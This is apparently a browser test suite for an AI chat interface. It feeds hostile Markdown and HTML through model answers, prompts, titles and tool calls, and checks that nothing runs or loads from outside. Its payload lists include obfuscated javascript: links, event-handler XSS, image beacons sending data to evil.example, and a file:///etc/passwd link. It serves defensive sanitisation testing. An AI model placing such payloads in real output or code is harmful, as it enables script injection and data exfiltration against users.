import { afterAll, afterEach, beforeAll, expect, test } from 'vitest'
import { HOSTILE_MARKDOWN } from '../support/hostile-markdown.ts'
import { launchBrowser } from '../support/chromium.ts'
import { openStage, type Stage, type Visitor } from './stage.ts'

let stage: Stage
let visitor: Visitor

beforeAll(async () => {
  stage = await openStage(await launchBrowser())
})
afterAll(() => stage.close())
afterEach(() => visitor.leave())

const HOSTILE = [
  '<script>window.broken = true</script>', '<img src=x onerror="window.broken = true">', '<svg onload="window.broken = true">',
  '<iframe srcdoc="<script>parent.broken = true</script>"></iframe>', '![x](https://evil.example/?d=secret)',
  '![y][ref]', '[click](javascript:window.broken=true)', '[click](data:text/html,<script>1</script>)', '[good](https://example.org/)',
  '[ref]: https://evil.example/ref',
].join('\n\n') // biome-ignore format: one a line

test('runs and loads nothing from an answer or a prompt, whole or in pieces', async () => {
  visitor = await stage.visitor()
  await visitor.enter()
  stage.model.script([{ text: [...HOSTILE], tokensPerSecond: 600 }])
  await visitor.ask(HOSTILE)
  await visitor.drawn()
  expect(await visitor.page.evaluate(() => 'broken' in window)).toBe(false)
  expect(visitor.requests.filter((address) => new URL(address).host !== new URL(stage.server.url).host)).toEqual([])
  const links = await visitor.answers
    .getByRole('link')
    .evaluateAll((all) => all.map((link) => [link.textContent, link.getAttribute('href'), link.getAttribute('rel')]))
  expect(links.map(([, href]) => href)).toEqual(['https://evil.example/?d=secret', 'https://evil.example/ref', 'https://example.org/'])
  expect(new Set(links.map(([, , rel]) => rel))).toEqual(new Set(['noopener noreferrer nofollow']))
  await expect.poll(() => visitor.answers.getByText('<script>').count()).toBeGreaterThan(0)
  expect(visitor.faults).toEqual([])
})

/** Markup that would load or run something. */
const MORE_HOSTILE = [
  '[a](JaVaScRiPt:window.broken=1) [b](&#106;avascript:window.broken=1) [c](java&Tab;script:window.broken=1) [d](%6aavascript:window.broken=1)',
  '[e](\u0001javascript:window.broken=1) [f](vbscript:window.broken=1) [g](DATA:text/html;base64,PHNjcmlwdD4=) [h](blob:https://evil.example/x) [i](file:///etc/passwd)',
  '[j][js] [k]: javascript:window.broken=1', '[js]: JAVASCRIPT:window.broken=1', '<javascript:window.broken=1> <data:text/html,x>',
  '![l](//evil.example/l) ![m][n] ![o](<https://evil.example/o> "t")', '[n]: //evil.example/n',
  '[![p](https://evil.example/p)](https://evil.example/q)',
  '<img src=https://evil.example/r> <img srcset="https://evil.example/s 2x"> <picture><source srcset=//evil.example/t></picture>',
  '<video poster=//evil.example/u autoplay><source src=//evil.example/v></video> <audio src=//evil.example/w autoplay>',
  '<link rel=stylesheet href=//evil.example/x> <style>@import "//evil.example/y";</style> <base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example/z"> <form action=//evil.example><button autofocus onfocus="window.broken=1">x</button></form>',
  '<object data=//evil.example/1></object> <embed src=//evil.example/2> <iframe src=//evil.example/3></iframe>',
  '<svg><use href="//evil.example/4#x"/><animate onbegin="window.broken=1"/></svg> <math href="javascript:window.broken=1">x</math>',
  '<div style="background:url(//evil.example/5)" onmouseover="window.broken=1">over</div> <details open ontoggle="window.broken=1">',
  '`<img src=x onerror=window.broken=1>`', '```html\n<script>window.broken=1</script>\n```', '| <img src=//evil.example/6> | ![7](//evil.example/7) |\n|---|---|\n| <script>window.broken=1</script> | x |',
] // biome-ignore format: one kind a line

test('runs and loads nothing from rarer Markdown, letter by letter, in titles, in tools, and after a reload', async () => {
  visitor = await stage.visitor()
  await visitor.enter()
  const markup = '<img src=//evil.example/8 onerror="window.broken=1">'
  stage.model.script([{ toolCall: { name: 'calculator', arguments: { expression: markup } } }])
  stage.model.script([{ text: [...MORE_HOSTILE.join('\n\n')] }])
  // The first line becomes the title of the chat, in the list and of the window.
  await visitor.ask(`${markup}\n\n${MORE_HOSTILE.join('\n\n')}`)
  await visitor.page.reload()
  await visitor.button('Copy answer').waitFor()
  await visitor.drawn()
  expect(await visitor.page.evaluate(() => 'broken' in window)).toBe(false)
  const elsewhere = visitor.requests.filter((address) => new URL(address).host !== new URL(stage.server.url).host)
  expect(elsewhere).toEqual([])
  const addresses = await visitor.page.getByRole('link').evaluateAll((all) => all.map((link) => (link as HTMLAnchorElement).protocol))
  expect(addresses.filter((protocol) => !['http:', 'https:', 'mailto:'].includes(protocol))).toEqual([])
  expect(
    await visitor.page.locator('article').locator('img, video, audio, iframe, object, embed, form, style, link, base, script').count(),
  ).toBe(0)
  expect(visitor.faults).toEqual([])
})

test('stays responsive with an answer made to exhaust it', async () => {
  visitor = await stage.visitor()
  await visitor.enter()
  const hostile = Object.values(HOSTILE_MARKDOWN).map((text) => `${text(1_000)}\n\n`)
  // Closes what is open in the texts before.
  const tables = `-->\n\n${'| a | b |\n|---|---|\n| 1 | 2 |\n\n'.repeat(1_000)}`
  stage.model.script([{ text: ['> '.repeat(3_000), '\n\n', '['.repeat(20_000), '\n\n', ...hostile, tables] }])
  await visitor.ask('Exhaust yourself')
  await expect.poll(() => visitor.answers.locator('table').count()).toBeGreaterThan(1_000)
  await visitor.ask('Still there?')
})
